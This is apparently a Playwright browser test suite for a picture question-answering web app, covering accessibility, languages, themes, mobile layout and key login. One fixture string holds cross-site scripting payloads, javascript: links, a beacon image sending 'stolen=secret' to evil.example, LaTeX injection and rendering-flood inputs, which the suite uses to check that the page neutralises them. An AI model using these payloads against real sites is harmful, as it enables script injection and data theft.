"""The page for everybody: keyboard, screen readers, languages, themes, phones; and against hostile answers."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import expect

from serve_app.access.key_file import add_key, new_key
from serve_app.contracts import Box, Boxed, Delta, PictureSeen
from tests.browser.conftest import LABEL
from tests.fakes import FakeAnswer, FakeAnswers

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

ANSWER = FakeAnswer(
    Delta("First the barcode.", 3, "reasoning"),
    "## Parts\n\n| a | b |\n|---|---|\n| 1 | `2` |\n\nSee [here](https://example.com).\n\n```\ncode\n```\n",
    boxed=(Boxed("x", (Box((0, 0, 500, 500), (0, 0, 270, 200), 0),)),),
    pictures=(PictureSeen((540, 405), (504, 392), 252),),
)
HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">

<iframe src="https://evil.example"></iframe> <style>body { display: none }</style> <svg onload="window.hacked = 1">

[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>) <a href="javascript:1">x</a>
[up](JaVaScRiPt&colon;window.hacked=1) ![beacon](https://evil.example/?stolen=secret) https://evil.example/auto
[ref]: javascript:window.hacked=1
[ref]

$\\href{javascript:window.hacked=1}{x}$ $$\\includegraphics{https://evil.example/a.png}$$ $\\style{color:red}{x}$
$\\textbf{b}$ $\\def\\a{\\a\\a}\\a$
""" + (
    ">" * 3000 + "\n\n" + "[" * 3000 + "\n\n| a |" + " b |" * 200 + "\n|---|" + "---|" * 200 + "\n" + "| 1 |\n" * 2000
)


async def test_a_hostile_answer_does_nothing(visit: Any) -> None:
    page = (session := await visit(FakeAnswer(HOSTILE))).page
    await session.ask("Anything?")
    await session.answered()
    await page.wait_for_timeout(300)
    content = page.locator(".content")
    assert await page.evaluate("window.hacked") is None
    assert await content.locator("script, iframe, img, style, svg, object, form, [onerror], [style]").count() == 0
    links = await content.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    assert all(link.startswith("https://evil.example") for link in links)
    assert await content.locator("tr").count() < 400
    await expect(content).to_contain_text("<script>window.hacked = 1</script>")
    assert await page.locator("#send").is_visible()


FLOODS = {"formulas": "\\\\[a ", "dollars": "$$a ", "parentheses": "\\\\(a ", "bold": "**a** "}


@pytest.mark.parametrize("kind", FLOODS)
async def test_a_flood_of_formulas_without_an_end_does_not_keep_the_page_busy(visit: Any, kind: str) -> None:
    """Each of them was searched to the end of the text, which took minutes. The limit is for a busy machine."""
    page = (await visit()).page
    busy_ms, characters = await page.evaluate(
        """async ([piece]) => {
          const url = document.querySelector("script[type=module]").src.replace("start.js", "markdown.js");
          const {MarkdownView} = await import(url);
          const shown = document.createElement("div");
          const begun = performance.now();
          new MarkdownView(shown).show(piece.repeat(190_000 / piece.length));
          return [performance.now() - begun, shown.textContent.length];
        }""",
        [FLOODS[kind]],
    )
    assert busy_ms < 10_000
    assert characters > 60_000


async def test_entities_are_shown_as_their_characters_and_others_as_they_are(visit: Any) -> None:
    page = (session := await visit(FakeAnswer("&lt;a&gt; &times; &constructor; &toString;"))).page
    await session.ask("Which?")
    await session.answered()
    await expect(page.locator(".content")).to_have_text("<a> × &constructor; &toString;")


async def test_the_keyboard_alone_is_enough(visit: Any) -> None:
    answer = FakeAnswers(FakeAnswer("Held", hold_after=2), FakeAnswer("One"))
    page = (session := await visit(answer)).page
    await page.wait_for_selector("#samples:not([hidden])")
    await expect(page.locator("#question")).to_be_focused()
    for _ in range(2):
        await page.keyboard.press("Shift+Tab")
    assert await page.evaluate("document.activeElement.closest('#samples') !== null")
    await page.keyboard.press("Enter")  # a sample picture and its question
    await expect(page.locator("#attachments li")).to_have_count(1)
    await expect(page.locator("#send")).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.locator(".content")).to_have_text("Held")
    await page.keyboard.press("Escape")
    await expect(page.locator(".after")).to_contain_text("Stopped.")
    await expect(page.locator("#question")).to_be_focused()
    await page.keyboard.type("Again?")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("Really?")
    await page.keyboard.press("Enter")
    await session.answered(2)
    (*_, last) = answer.requests[1].messages[-1].parts
    assert last.text == "Again?\nReally?"
    focused = []
    for _ in range(40):
        await page.keyboard.press("Tab")
        focused.append(await page.evaluate("document.activeElement.textContent.trim()"))
    assert {"Answer again", "Copy answer", "As a program", "Edit", "History", "中文"} <= set(focused)


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_axe_finds_nothing_against_wcag_2_2_aa(visit: Any, scheme: str) -> None:
    page = (session := await visit(ANSWER, color_scheme=scheme)).page
    await page.wait_for_selector("#samples:not([hidden])")
    assert await session.violations() == []
    await session.ask("Which number?", LABEL)
    await session.answered()
    await page.click("article summary")
    await page.click("#options summary")
    await page.set_input_files("#files", LABEL)
    await expect(page.locator("#attachments li")).to_have_count(1)
    assert await session.violations() == []
    for opener, dialog in (("#history", "#history-dialog"), (".actions button:has-text('program')", "#code-dialog")):
        await page.click(opener)
        await expect(page.locator(dialog)).to_be_visible()
        assert await session.violations() == []
        await page.keyboard.press("Escape")


async def test_axe_finds_nothing_on_errors_forms_and_the_login(visit: Any, tmp_path: Path) -> None:
    add_key(tmp_path / "keys.json", new_key("shop")[1])
    session = await visit(app={"access": {"keys_file": str(tmp_path / "keys.json")}})
    session.failures_expected = True
    await expect(session.page.locator("#login")).to_be_visible()
    assert await session.violations() == []
    await session.page.keyboard.press("Escape")
    await session.page.select_option("#template", "waybill")
    await session.ask("Which?")
    await expect(session.page.locator("article .error")).to_be_visible()
    await session.page.keyboard.press("Escape")
    assert await session.violations() == []


@pytest.mark.parametrize(
    ("locale", "title"), [("zh-CN", "对图片提问"), ("zh-TW", "对图片提问"), ("de-DE", "Ask about a picture")]
)
async def test_the_language_is_the_browser_s_until_another_is_chosen(visit: Any, locale: str, title: str) -> None:
    page = (await visit(locale=locale)).page
    await expect(page.locator("#welcome h2")).to_have_text(title)
    await page.click("#language")
    other = "Ask about a picture" if locale.startswith("zh") else "对图片提问"
    await expect(page.locator("#welcome h2")).to_have_text(other)
    await page.reload()
    await expect(page.locator("#welcome h2")).to_have_text(other)
    assert await page.evaluate("document.documentElement.lang") == ("en" if locale.startswith("zh") else "zh-CN")


async def test_every_text_is_there_in_both_languages(visit: Any) -> None:
    page = (await visit()).page
    keys, used = await page.evaluate(
        """async () => {
          const url = document.querySelector("script[type=module]").src.replace("start.js", "language.js");
          const source = await (await fetch(url)).text();
          const keys = Object.fromEntries(["en", "zh"].map(name => [name,
            [...source.split(`  ${name}: {`)[1].split("\\n  },")[0].matchAll(/(\\w+): "/g)].map(match => match[1])]));
          const used = [...document.querySelectorAll("[data-text], [data-label], [data-placeholder]")]
            .flatMap(each => [each.dataset.text, each.dataset.label, each.dataset.placeholder]).filter(Boolean);
          return [keys, used];
        }"""
    )
    assert keys["en"] == keys["zh"]
    assert set(used) <= set(keys["en"])


async def test_the_theme_is_the_system_s_until_another_is_chosen(visit: Any) -> None:
    page = (await visit(color_scheme="dark")).page
    background = "getComputedStyle(document.body).backgroundColor"
    dark = await page.evaluate(background)
    await page.click("#theme")
    assert await page.evaluate(background) != dark
    await page.reload()
    assert await page.evaluate(background) != dark


async def test_on_a_phone_nothing_is_wider_than_the_screen(visit: Any) -> None:
    page = (session := await visit(ANSWER, viewport={"width": 320, "height": 640}, has_touch=True, is_mobile=True)).page
    await session.ask("Which number is it, and who is the recipient of this parcel?", LABEL)
    await session.answered()
    assert await page.evaluate("document.documentElement.scrollWidth") == 320
    for name in ("#send", "#attach", "#camera"):
        box = await page.locator(name).bounding_box()
        assert box is not None
        assert box["x"] + box["width"] <= 320
        assert box["height"] >= 24


async def test_a_service_with_keys_asks_for_one_and_keeps_it_for_the_tab(visit: Any, tmp_path: Path) -> None:
    key, entry = new_key("shop")
    add_key(tmp_path / "keys.json", entry)
    session = await visit(app={"access": {"keys_file": str(tmp_path / "keys.json")}})
    page, session.failures_expected = session.page, True
    await page.fill("#key", "glm-wrong")
    await page.keyboard.press("Enter")
    await expect(page.locator("#login-error")).to_have_text("The API key is not valid.")
    await expect(page.locator("#login")).to_be_visible()
    await page.fill("#key", key)
    await page.keyboard.press("Enter")
    await expect(page.locator("#model")).to_contain_text("glm-vision-demo")
    await session.ask("Which?")
    await session.answered()
    assert await page.evaluate("Object.values(localStorage)") == []
    assert await page.evaluate("Object.values(sessionStorage)") == [key]
    await page.reload()
    await expect(page.locator("#model")).to_contain_text("glm-vision-demo")


async def test_a_key_that_is_revoked_is_asked_for_again_and_the_question_goes_on(visit: Any, tmp_path: Path) -> None:
    key, entry = new_key("shop")
    add_key(tmp_path / "keys.json", entry)
    session = await visit(app={"access": {"keys_file": str(tmp_path / "keys.json")}})
    page, session.failures_expected = session.page, True
    await page.fill("#key", key)
    await page.keyboard.press("Enter")
    await expect(page.locator("#model")).to_contain_text("glm-vision-demo")
    await page.evaluate("sessionStorage.setItem('glm-key', 'glm-old')")
    await session.ask("Which?")
    await expect(page.locator("#login")).to_be_visible()
    await page.fill("#key", key)
    await page.keyboard.press("Enter")
    await session.answered()
    await expect(page.locator(".content")).to_have_text("Two cats")
